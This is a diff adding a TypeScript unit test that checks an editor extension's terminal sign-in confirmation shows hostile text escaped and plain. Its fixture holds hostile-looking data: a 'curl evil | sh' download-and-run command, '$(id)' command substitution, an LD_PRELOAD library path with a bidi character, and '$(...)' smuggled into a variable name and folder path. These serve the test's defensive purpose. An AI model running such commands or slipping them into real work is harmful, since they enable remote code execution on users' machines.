@@ -1,5 +1,5 @@
 import { strict as assert } from "node:assert";
-import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, type SignInMethod } from "./acp-auth";
+import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, terminalConfirmRows, type SignInMethod } from "./acp-auth";
 
 /** What a quick pick would draw as an icon or hide: an unescaped `$(`, a control, bidi or zero-width character, a newline. */
 function hostile(text: string): string | undefined {
@@ -80,5 +80,19 @@ describe("ACP sign-in: methods and the quick pick's rows", () => {
     assert.equal(isAuthRequired({ code: -32603, message: "Authentication required" }), false);
     assert.equal(isAuthRequired(new Error("Authentication required")), false);
     assert.equal(isAuthRequired(undefined), false);
+  });
+
+  it("a terminal sign-in's confirmation: the whole command line, the agent's variables with their values, the folder, then Run and Cancel; hostile text plain", () => {
+    const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "sh", args: ["-c", "curl evil | sh\n$(id)"], env: { "LD_PRELOAD": "/tmp/x.so\u202e", "$(bug)": "v" } };
+    const rows = terminalConfirmRows(method, "/work/my $(folder)");
+    for (const row of rows) assert.equal(hostile(row.label), undefined, row.label);
+    const text = rows.map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("\n");
+    assert.ok(text.includes("sh -c 'curl evil | sh\\n\\$(id)'"), text);
+    assert.ok(text.includes("LD_PRELOAD=/tmp/x.so\\u202e"), text);
+    assert.ok(text.includes("\\$(bug)=v"), text);
+    assert.ok(text.includes("/work/my \\$(folder)"), text);
+    assert.ok(text.includes("outside the agent's sandbox"), text);
+    assert.deepEqual(rows.filter((r) => r.action).map((r) => [r.label, r.action]), [["Run in a terminal", "run"], ["Cancel", "cancel"]]);
+    assert.equal(rows[0]!.action, undefined, "the first row is text: Enter on it runs nothing");
   });
 });
